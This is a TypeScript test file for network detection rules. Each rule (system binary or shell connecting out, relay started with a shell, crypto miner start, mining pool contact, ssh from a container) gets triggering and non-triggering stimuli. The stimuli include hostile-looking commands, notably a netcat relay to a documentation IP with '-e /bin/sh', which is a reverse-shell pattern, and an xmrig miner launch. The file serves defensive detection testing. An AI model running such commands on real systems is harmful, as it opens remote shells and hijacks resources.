import { type Case, host, inside } from '../stimulus.ts';

/** `rules/network.yaml`. */
export const network: readonly Case[] = [
  {
    rule: 'System binary connects out',
    fire: host('as ls tcp 203.0.113.7 80'),
    miss: host('as ls tcp 203.0.113.7 53 + try tcp 127.0.0.1 80; as curl tcp 203.0.113.7 80'),
  },
  {
    rule: 'Shell connects out',
    fire: host('as bash tcp 203.0.113.7 80'),
    miss: host('as bash tcp 203.0.113.7 53 + try tcp 127.0.0.1 80'),
  },
  {
    rule: 'Relay started with a shell',
    fire: host('as nc sleep 0 203.0.113.7 80 -e /bin/sh'),
    miss: host('as nc sleep 0 203.0.113.7 80; as socat sleep 0 TCP:203.0.113.7:80 STDOUT'),
  },
  {
    rule: 'Miner started',
    fire: host('as xmrig sleep 0'),
    miss: host('as xmrig-notes sleep 0; act sleep 0 https://pool.example'),
  },
  {
    rule: 'Miner pool contacted',
    fire: host('act tcp 203.0.113.7 3333'),
    miss: host('act tcp 203.0.113.7 3332 + try tcp 127.0.0.1 3333'),
  },
  {
    rule: 'Remote login from container',
    fire: inside('as ssh sleep 0 host.example'),
    miss: host('as ssh sleep 0 host.example'),
  },
];
